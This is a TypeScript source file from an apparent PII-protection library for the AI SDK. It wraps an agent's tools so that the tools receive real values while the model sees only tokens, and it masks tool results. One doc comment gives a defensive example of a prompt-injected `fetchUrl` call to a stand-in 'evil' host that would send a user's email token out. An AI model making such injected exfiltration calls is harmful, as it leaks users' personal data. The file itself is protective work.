import type { ToolSet } from 'ai';
import { PiiConfigError } from '../core/errors';
import type { InventedTokenPolicy } from '../core/restore';
import type { PiiSession } from '../core/session';
import type { ToolStrategy } from '../core/tool-strategy';
import { callAndMask, createToolResultMasker, settleOutput } from './tools/mask-tool-result';
import {
  type ResolvedToolPlan,
  resolveToolPlans,
  type ToolRestoreOption,
  type ToolStrategyOption,
} from './tools/resolve-strategy';
import { createToolInputRestorer } from './tools/restore-input-schema';

export type { ToolRestoreOption, ToolStrategyOption };

export interface WithPiiToolsOptions<TOOLS extends ToolSet = ToolSet> {
  /** The conversation whose tokens the tools' arguments hold. */
  session: PiiSession;
  /**
   * `full` (default: real values in, result masked), `input` (real values in, result in
   * clear), `output` (tokens in, result masked) or `passthrough` (nothing touched); or one per
   * tool, e.g. `{ default: 'full', fetchUrl: 'output' }`.
   */
  strategy?: ToolStrategyOption<Extract<keyof TOOLS, string>>;
  /**
   * A well-formed token in the arguments that the conversation never issued: `throw` (default:
   * the tool does not run and the model reads an error naming the token, so it can retry),
   * `remove` (the token is deleted) or `keep` (the tool receives the token as written).
   */
  invented?: InventedTokenPolicy;
  /**
   * Per tool, the only labels whose real values it receives; tokens of other labels stay
   * tokens. The defence against exfiltration through tools: with `{ fetchUrl: ['URL'] }`, a
   * prompt-injected `fetchUrl("https://evil/?q=<<EMAIL:1>>")` never sends the address.
   */
  restore?: ToolRestoreOption<Extract<keyof TOOLS, string>>;
}

type AnyTool = ToolSet[string];

/** The property list of a tool, own and non-enumerable ones included (e.g. `experimental_toolCaller`). */
function copyWith<TOOL extends object>(tool: TOOL, overrides: Record<string, unknown>): TOOL {
  const descriptors: PropertyDescriptorMap = Object.getOwnPropertyDescriptors(tool);
  for (const [key, value] of Object.entries(overrides)) {
    descriptors[key] = { value, writable: true, enumerable: true, configurable: true };
  }
  return Object.create(Object.getPrototypeOf(tool), descriptors) as TOOL;
}

function wrapTool<TOOL extends AnyTool>(
  tool: TOOL,
  plan: ResolvedToolPlan,
  session: PiiSession,
  invented: InventedTokenPolicy,
): TOOL {
  const execute = tool.execute;
  // Provider-executed tools and client-side tools have no `execute`: the SDK never runs them.
  if (plan.strategy === 'passthrough' || typeof execute !== 'function') return tool;

  type Options = Parameters<NonNullable<TOOL['execute']>>[1];
  const input = createToolInputRestorer({
    session,
    inputSchema: tool.inputSchema,
    mode: plan.strategy === 'output' ? 'tokens' : 'restore',
    invented,
    labels: plan.labels,
  });
  const mask = masksResult(plan.strategy)
    ? createToolResultMasker(session, plan.strategy === 'output' ? 'keep' : 'neutralize')
    : undefined;

  // Not `async`: when the tool returns an async iterable (preliminary results), so must this.
  function wrappedExecute(this: unknown, toolInput: unknown, options: Options): unknown {
    const run = (ready: unknown) => {
      const call = () => execute!.call(this, ready as never, options as never);
      return mask ? callAndMask(call, mask) : call();
    };
    const taken = input.take(toolInput);
    if (taken) return run(taken.value);
    // Input that our schema did not see (an approved call resumed in a later request, a tool
    // without schema, a direct call): restore and validate now. The result is then a promise,
    // so an iterable result is settled to its final value.
    return input.prepare(toolInput).then((ready) => settleOutput(run(ready)));
  }

  return copyWith(tool, {
    execute: wrappedExecute,
    ...(input.inputSchema !== undefined ? { inputSchema: input.inputSchema } : {}),
  });
}

const masksResult = (strategy: ToolStrategy) => strategy === 'full' || strategy === 'output';

/**
 * Wraps a tool set so that tools act on real values while the model only ever sees tokens:
 * arguments are restored before `execute` (and before schema validation, so
 * `z.string().email()` accepts `<<EMAIL:1>>`), results are masked before the model reads
 * them, and the tool call recorded in steps, messages and the UI stream keeps its tokens.
 * Each tool's strategy is recorded on `session.toolStrategies` for `piiMiddleware`.
 *
 * Returns a tool set of the same type; every property of each tool is kept, and tools without
 * `execute` (provider-executed, client-side) are returned as they are.
 *
 * @example
 * import { streamText, tool, wrapLanguageModel } from 'ai';
 * import { piiMiddleware, withPiiTools } from 'ai-sdk-pii';
 *
 * const session = pii.session(chatId);
 * const result = streamText({
 *   model: wrapLanguageModel({ model, middleware: piiMiddleware({ session }) }),
 *   tools: withPiiTools(
 *     { sendEmail, fetchUrl },
 *     { session, strategy: { default: 'full', fetchUrl: 'output' }, restore: { sendEmail: ['EMAIL', 'PERSON'] } },
 *   ),
 *   messages,
 * });
 */
export function withPiiTools<TOOLS extends ToolSet>(
  tools: TOOLS,
  options: WithPiiToolsOptions<TOOLS>,
): TOOLS {
  const session = options?.session;
  if (
    typeof session?.restoreValue !== 'function' ||
    typeof session.anonymize !== 'function' ||
    !(session.toolStrategies instanceof Map)
  ) {
    throw new PiiConfigError(
      'withPiiTools(tools, { session }): `session` must be a PiiSession from pii.session(chatId).',
    );
  }
  if (typeof tools !== 'object' || tools === null) {
    throw new PiiConfigError(
      'withPiiTools(tools, options): `tools` must be a tool set (an object of tools).',
    );
  }
  const plans = resolveToolPlans(Object.keys(tools), options);
  const invented = options.invented ?? 'throw';
  const wrapped: Record<string, AnyTool> = {};
  for (const [name, plan] of plans) {
    session.toolStrategies.set(name, plan.strategy);
    wrapped[name] = wrapTool(tools[name]!, plan, session, invented);
  }
  return wrapped as TOOLS;
}
